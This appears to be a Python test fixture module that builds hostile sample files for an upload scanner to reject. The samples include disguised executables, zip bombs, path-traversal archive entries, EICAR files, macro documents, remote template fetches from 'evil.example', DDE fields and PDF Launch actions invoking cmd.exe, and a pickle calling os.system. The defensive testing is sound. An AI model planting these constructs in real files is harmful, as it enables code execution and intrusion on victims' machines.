"""Programs, archives, bombs and office files that hide something."""

from __future__ import annotations

import gzip
import struct
import zipfile

from tests.hostile.row import (
    ARCHIVE,
    DOCX,
    EICAR,
    MACRO,
    OLD,
    OLE,
    PDF,
    PE,
    PROGRAM,
    TYPES,
    UNKNOWN,
    XLSX,
    Row,
    packed,
)  # fmt: skip

_ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
_NESTED = packed({"b.zip": packed({"c.zip": packed({"zeros": bytes(2_000_000)}, zipfile.ZIP_DEFLATED)})})
_ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o/>"}


def _letter(**more: bytes) -> bytes:
    """A letter with one more part: a name with two underscores for each slash, one for each dot."""
    names = {name.replace("__", "/").replace("_", "."): body for name, body in more.items()}
    return packed({**TYPES, "word/document.xml": b"<w/>", **names})


def _table(name: str, body: bytes = b"x") -> bytes:
    return packed({**TYPES, "xl/workbook.xml": b"<x/>", name: body})


def _flagged(good: bytes, flag: int) -> bytes:
    """A zip file whose entries say that they are locked, in both places."""
    out = bytearray(good)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + at] |= flag
            place = out.find(mark, place + 4)
    return bytes(out)


def _counts(good: bytes, count: int) -> bytes:
    """A zip file whose end says another number of entries."""
    at = good.rindex(b"PK\x05\x06")
    return good[: at + 8] + struct.pack("<HH", count, count) + good[at + 12 :]


def _overlapping() -> bytes:
    """A thousand entries, each of which is the same bytes: little that unpacks to much."""
    good = packed({"[Content_Types].xml": b"", "word/document.xml": bytes(90_000)}, zipfile.ZIP_DEFLATED)
    table, end = good.index(b"PK\x01\x02"), good.rindex(b"PK\x05\x06")
    entry = good[table:end]
    many = entry * 400
    return (
        good[:table] + many + good[end : end + 8] + struct.pack("<HHII", 800, 800, len(many), table) + b"\0\0"
    )


# sentence, name, bytes
_PROGRAMS = (
    ("a program that calls itself a text", "x.txt", PE),
    ("a program that calls itself a PDF", "x.pdf", PE),
    ("a program that calls itself a letter", "x.docx", PE),
    ("a program without an ending", "setup", PE),
    ("a program that is four bytes long", "x.png", b"MZ\x90\0"),
    ("a program that unpacks itself", "x.docx", PE + DOCX),
    ("a program of Linux that calls itself a video", "x.mp4", _ELF),
    ("a program of Linux without an ending", "run", _ELF),
    ("a program of an old Mac", "x.png", b"\xce\xfa\xed\xfe" + bytes(40)),
    ("a program of a Mac, big end first", "x.png", b"\xfe\xed\xfa\xce" + bytes(40)),
    ("a program of a Mac, 64 bits, big end first", "x.png", b"\xfe\xed\xfa\xcf" + bytes(40)),
    ("a program of a Mac for several machines", "x.jpg", b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(40)),
    ("a class of Java that calls itself a picture", "x.gif", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)),
    ("a program of Android's machine", "x.txt", b"dex\n035\0" + bytes(40)),
    ("a shortcut that calls itself a picture", "x.png", b"L\0\0\0\1\x14\2\0" + bytes(60)),
    ("a program for telephones", "app.apk", packed({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n"})),
    ("a shortcut to a page", "Open.url", b"[InternetShortcut]\nURL=file://evil.example/x\n"),
    ("a program with a page's face", "x.hta", b"<script>new ActiveXObject('WScript.Shell')</script>"),
    ("a package that installs", "x.msi", OLE),
    ("a saver of the screen", "x.scr", PE),
    ("a part of the control panel", "x.cpl", PE),
    ("a program with its ending in capitals", "X.EXE", b"hello"),
    ("a program with a space behind its ending", "x.exe ", b"hello"),
)
_ARCHIVES = (
    ("an archive in an archive in an archive", "x.zip", _NESTED),
    ("an archive in an archive, called a letter", "x.docx", _NESTED),
    ("an archive with the test virus in it", "x.zip", packed({"eicar.com": EICAR})),
    ("an archive with the test virus, called a table", "x.xlsx", packed({"eicar.com": EICAR})),
    ("an archive whose entries climb", "x.docx", packed({"../../etc/cron.d/x": b"x"})),
    ("an archive whose entries begin at the root", "x.docx", packed({"/etc/passwd": b"x"})),
    ("an archive whose entries name a drive", "x.docx", packed({"C:\\Windows\\x.dll": PE})),
    ("an archive that is locked", "x.zip", _flagged(packed({"a.txt": b"x"}), 1)),
    (
        "a program of Java under another name",
        "x.docx",
        packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}),
    ),
    ("a program for telephones under another name", "x.docx", packed({"AndroidManifest.xml": b"x"})),
    ("a package of a browser", "x.docx", packed({"manifest.json": b"{}"})),
    ("a book", "x.epub", packed({"mimetype": b"application/epub+zip"})),
    ("slides", "x.pptx", packed({**TYPES, "ppt/presentation.xml": b"x"})),
    (
        "a drawing of LibreOffice",
        "x.odg",
        packed({"mimetype": b"application/vnd.oasis.opendocument.graphics"}),
    ),
    ("an archive cut into parts", "x.docx", b"PK\x07\x08" + DOCX),
    ("an archive of 7-Zip", "x.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    ("an archive of 7-Zip that calls itself a text", "x.txt", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    ("an old archive of RAR", "x.jpg", b"Rar!\x1a\x07\x00" + bytes(40)),
    ("a cabinet of Windows", "x.png", b"MSCF\0\0\0\0" + bytes(40)),
    ("ten million zeros, packed", "x.pdf", gzip.compress(bytes(10_000_000), mtime=0)),
    ("a packed file of a fourth kind", "x.png", b"BZh91AY&SY" + bytes(40)),
    ("a packed file of a third kind", "x.png", b"\xfd7zXZ\0" + bytes(40)),
    ("a picture of a disk, by its name", "x.iso", bytes(100)),
    ("a picture of a Mac's disk, by its name", "x.dmg", bytes(100)),
    ("a tape, by its name", "x.tar", b"a.png" + bytes(507)),
    ("a letter that says it has no parts", "x.docx", _counts(DOCX, 0)),
    ("a packed tape, by its name", "x.tar.gz", b"hello"),
)
_MACROS = (
    ("a table with a macro", "x.xlsx", _table("xl/vbaProject.bin")),
    ("a table with a macro, in capitals", "x.xlsx", _table("XL/VBAPROJECT.BIN")),
    ("a table with a macro, with backslashes", "x.xlsx", _table("xl\\macrosheets\\s.xml")),
    ("a table with a dialogue", "x.xlsx", _table("xl/dialogsheets/sheet1.xml")),
    ("a table with a control", "x.xlsx", _table("xl/activeX/activeX1.bin")),
    ("a table with another file in it", "x.xlsx", _table("xl/embeddings/oleObject1.bin", OLE)),
    ("a letter with a program in it", "x.docx", _letter(word__setup_exe=PE)),
    ("a letter with a script in it", "x.docx", _letter(word__x_ps1=b"x")),
    ("a letter with a shortcut in it", "x.docx", _letter(word__x_lnk=b"x")),
    ("a letter with a page in it", "x.docx", _letter(word__afchunk_html=b"<script>")),
    ("a letter with a drawing in it", "x.docx", _letter(word__media__x_svg=b"<svg>")),
    ("a letter with an archive in it", "x.docx", _letter(word__media__x_zip=_NESTED)),
    ("a letter with a library in it", "x.docx", _letter(word__x_dll=PE)),
    ("a letter of LibreOffice with a script", "x.odt", packed({**_ODT, "Scripts/python/x.py": b"x"})),
    ("a letter of LibreOffice with a program", "x.odt", packed({**_ODT, "Pictures/x.exe": PE})),
    *((f"an office file with a macro, by its name .{one}", f"x.{one}", XLSX) for one in (
        "dotm", "xlsm", "xltm", "xlam", "xlsb", "pptm", "ods", "odb", "DOCM",
    )),
)  # fmt: skip
_OLD = (
    *((f"an old office file called .{one}", f"x.{one}", OLE) for one in ("doc", "xls", "ppt", "pub", "msg")),
    ("a message of Outlook with a file in it", "Fwd.msg", OLE + PE),
    ("an old table with a macro that calls itself a PDF", "x.pdf", OLE),
    ("an old letter without an ending", "letter", OLE),
    ("a locked letter, which is an old file inside", "x.docx", OLE + b"EncryptedPackage"),
    ("a rich text that fetches a letter", "x.rtf", rb"{\rtf1{\*\template http://evil.example/x.dotm}}"),
    ("a rich text that calls itself a letter", "x.docx", rb"{\rtf1{\object\objdata 0105}}"),
)
_BROKEN = (
    ("a locked letter", "x.docx", _flagged(DOCX, 1)),
    ("a letter four hundred parts of which are the same bytes", "x.docx", _overlapping()),
    ("a letter that says it has more parts than it has", "x.docx", _counts(DOCX, 9)),
    ("a letter that says it has sixty thousand parts", "x.docx", _counts(DOCX, 65_000)),
    ("a letter of zeros behind its first bytes", "x.docx", b"PK\x03\x04" + bytes(500)),
    ("a letter whose end stands at its beginning", "x.docx", DOCX[:30] + DOCX[-22:] + DOCX[30:-22]),
    ("an archive behind a picture's first bytes only", "x.docx", b"\0" + DOCX),
    ("a font", "x.ttf", b"\0\1\0\0\0\x0c" + bytes(60)),
    ("a font of the web", "x.woff", b"wOFF" + bytes(60)),
    ("a newer font of the web", "x.woff2", b"wOF2" + bytes(60)),
    ("a font that calls itself a picture", "x.png", b"OTTO" + bytes(60)),
    ("a picture of printers", "x.tif", b"II*\0\x08\0\0\0" + b"\xff" * 40),
    ("a picture of printers that is very large", "x.tiff", b"MM\0*\0\0\0\x08\0\2\1\0\0\4\0\0\0\1\x7f\xff\xff\xff"),
    ("a picture of Windows", "x.bmp", b"BM" + struct.pack("<IIII", 100, 0, 54, 40) + b"\xff" * 60),
    ("a picture for pages of Windows", "x.ico", b"\0\0\1\0\1\0" + bytes(60)),
    ("a drawing of Windows", "x.emf", b"\1\0\0\0" + bytes(60)),
    ("a film of flash", "x.swf", b"FWS\x0a" + bytes(60)),
    ("a page for printers that runs", "x.ps", b"%!PS-Adobe\n(x) run \x00"),
    ("a database of passwords", "x.kdbx", b"\x03\xd9\xa2\x9a" + bytes(60)),
    ("a capture of a network", "x.pcap", b"\xd4\xc3\xb2\xa1" + bytes(60)),
    ("a pickle of Python", "x.dat", b"\x80\x04\x95" + bytes(20) + b"cos\nsystem\n"),
    ("a chat of two minutes that is only zeros", "x.csv", bytes(5_000)),
)  # fmt: skip

PACKS = (
    *(Row(sentence, name, body, words=PROGRAM) for sentence, name, body in _PROGRAMS),
    *(Row(sentence, name, body, words=ARCHIVE) for sentence, name, body in _ARCHIVES),
    *(Row(sentence, name, body, words=MACRO) for sentence, name, body in _MACROS),
    *(Row(sentence, name, body, words=OLD) for sentence, name, body in _OLD),
    *(Row(sentence, name, body, words=UNKNOWN) for sentence, name, body in _BROKEN),
    Row("a letter that fetches its template", "x.docx",
        _letter(word___rels__settings_xml_rels=b"<R TargetMode='External' Target='http://evil.example/x.dotm'/>"), "docx"),
    Row("a letter with a field that starts a program", "x.docx",
        packed({**TYPES, "word/document.xml": b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"}), "docx"),
    Row("a table with a field that starts a program", "x.xlsx",
        _table("xl/externalLinks/externalLink1.xml", b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"), "xlsx"),
    Row("a letter that says inside that it has macros", "x.docx",
        packed({"[Content_Types].xml": b"macroEnabled.main+xml", "word/document.xml": b""}), "docx"),
    Row("a PDF that runs a script when opened", "x.pdf", PDF + b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "pdf"),
    Row("a PDF that starts a program", "x.pdf", PDF + b"/S/Launch/F(cmd.exe)", "pdf"),
    Row("a PDF with a file in it", "x.pdf", PDF + b"/EmbeddedFile" + PE, "pdf"),
    Row("a locked PDF", "x.pdf", PDF + b"/Encrypt 5 0 R", "pdf"),
    Row("a PDF whose parts are their own parents", "x.pdf", b"%PDF-1.7\n1 0 obj<</Pages 1 0 R/Kids[1 0 R]>>endobj", "pdf"),
    Row("the test virus in a PDF", "x.pdf", PDF + EICAR, "pdf"),
    Row("the test virus with spaces behind it", "x.txt", EICAR + b"   \r\n", "txt"),
    Row("the test virus in a message", "x.eml", b"From: a@example.org\r\n\r\n" + EICAR, "eml"),
)  # fmt: skip
